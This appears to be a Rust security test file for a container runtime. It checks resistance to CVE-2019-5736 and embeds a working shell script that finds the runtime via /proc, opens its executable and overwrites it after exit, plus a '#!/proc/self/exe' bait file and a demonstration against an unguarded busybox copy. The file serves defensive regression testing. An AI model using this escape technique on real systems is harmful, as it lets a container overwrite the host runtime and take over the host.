//! CVE-2019-5736: a container gets hold of the runtime's program through `/proc/PID/exe` and writes to it.

use std::{
    fs,
    io::{PipeReader, Read, Write},
    os::unix::fs::PermissionsExt,
    path::Path,
    process::{Child, Command, Stdio},
};

use rustix::fs::{OFlags, fcntl_getfl, fcntl_setfl};

use crate::sandbox::{Sandbox, copy_program};

/// Waits for a process that runs what is attacked, opens its program, waits for it to end and overwrites the
/// program.
const ATTACK: &str = r#"
    while true; do
        for process in /proc/[0-9]*; do
            program=$(readlink $process/exe) || continue
            case $program in
                *naive*|*wharf-runtime*) ;;
                *) continue ;;
            esac
            exec 3<$process/exe
            echo "opened $program" > /tmp/opened
            while test -d $process; do true; done
            if echo overwritten > /proc/self/fd/3; then echo written; else echo refused; fi > /tmp/outcome
            exit
        done
    done
"#;

/// A script that makes whoever executes it execute itself.
const BAIT: &str = "#!/proc/self/exe\n";

fn lay_bait(root: &Path) {
    let path = root.join("bait");
    fs::write(&path, BAIT).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
}

/// A pipe that holds all it can: a program that complains on it stands still.
fn full_pipe() -> (PipeReader, std::io::PipeWriter) {
    let (reader, mut writer) = std::io::pipe().unwrap();
    let flags = fcntl_getfl(&writer).unwrap();
    fcntl_setfl(&writer, flags | OFlags::NONBLOCK).unwrap();
    while writer.write(&[0; 4096]).is_ok() {}
    while writer.write(&[0]).is_ok() {}
    fcntl_setfl(&writer, flags).unwrap();
    (reader, writer)
}

/// Starts `bait` by a command, lets the attack open its program, and lets it end.
fn take(sandbox: &Sandbox, mut bait: Command) -> String {
    let (mut reader, writer) = full_pipe();
    let mut child: Child = bait
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(writer)
        .spawn()
        .unwrap();
    drop(bait);
    let opened = sandbox.await_file("tmp/opened");
    let mut said = Vec::new();
    reader.read_to_end(&mut said).unwrap();
    child.wait().unwrap();
    let outcome = sandbox.await_file("tmp/outcome");
    format!("{opened}{outcome}")
}

#[test]
fn cve_2019_5736_the_runtime_is_not_overwritten_by_a_script_that_runs_its_executor() {
    let mut sandbox = Sandbox::new();
    lay_bait(&sandbox.root());
    // The image knows what it wants to run.
    sandbox.bring_libraries(&sandbox.program);
    sandbox.script(ATTACK).start();
    let before = fs::read(&sandbox.program).unwrap();
    let said = take(&sandbox, sandbox.command(&["exec", &sandbox.id, "/bait"]));
    assert!(said.contains("opened") && said.ends_with("refused\n"), "{said}");
    assert!(
        fs::read(&sandbox.program).unwrap() == before,
        "the runtime was overwritten"
    );
}

#[test]
fn cve_2019_5736_the_attack_overwrites_a_program_that_does_not_guard_itself() {
    let mut sandbox = Sandbox::new();
    lay_bait(&sandbox.root());
    // Copies, since whatever the attack finds in there is lost.
    let copy = |program: &str, name: &str| {
        let to = sandbox.outside().join(name);
        copy_program(program, &to);
        to
    };
    let enter = copy("/usr/bin/nsenter", "enter");
    let limit = copy("/usr/bin/setpriv", "limit");
    let naive = copy("/bin/busybox", "naive");
    sandbox.script(ATTACK).start();
    let pid = sandbox.pid();
    let mut chroot = Command::new(enter);
    chroot
        .arg("--pid")
        .arg("--target")
        .arg(pid.to_string())
        .arg(limit);
    chroot.args([
        "--bounding-set",
        "-all,+chown,+dac_override,+kill,+setuid,+setgid,+sys_chroot",
    ]);
    chroot
        .arg(&naive)
        .arg("chroot")
        .arg(format!("/proc/{pid}/root"))
        .arg("/bait");
    let said = take(&sandbox, chroot);
    assert!(said.ends_with("written\n"), "{said}");
    assert_eq!(fs::read(&naive).unwrap(), b"overwritten\n");
}

/// The first run costs no start of the C library, whose signal stack the ordinary road would show.
#[cfg(target_arch = "x86_64")]
#[test]
fn cve_2019_5736_the_copy_that_runs_is_made_before_the_c_library_starts() {
    let sandbox = Sandbox::new();
    let trace = sandbox.outside().join("trace");
    let run = sandbox.run_command();
    let mut strace = Command::new("strace");
    strace
        .arg("--output")
        .arg(&trace)
        .arg(run.get_program())
        .args(run.get_args());
    let status = strace.stdin(Stdio::null()).status().unwrap();
    assert!(status.success());
    let trace = fs::read_to_string(trace).unwrap();
    let (before, after) = trace.split_once("execveat(").unwrap();
    assert!(
        before.contains("fsopen(\"overlay\"") && !before.contains("sigaltstack("),
        "{before}"
    );
    assert!(!after.contains("execveat("), "sealed twice");
}
